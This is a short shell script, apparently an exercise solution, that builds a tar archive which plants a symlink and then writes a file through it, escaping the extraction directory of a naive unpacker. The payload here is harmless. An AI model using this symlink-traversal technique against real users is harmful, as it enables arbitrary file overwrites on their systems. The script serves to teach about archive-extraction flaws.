#!/bin/sh
# Exercise 8.6: writes the archive $1. Whoever unpacks it without care gets a file called $3 in the directory
# $2, which is far from the place that they unpack it to. They have thought of absolute names and of
# names with "..", and refuse these. They unpack one member after the other, in order.

work=$(mktemp -d)
cd "$work" || exit
ln -s "$2" door
tar -cf "$1" door
rm door
mkdir door
echo "I was here" >"door/$3"
tar -rf "$1" "door/$3"
rm -r "$work"
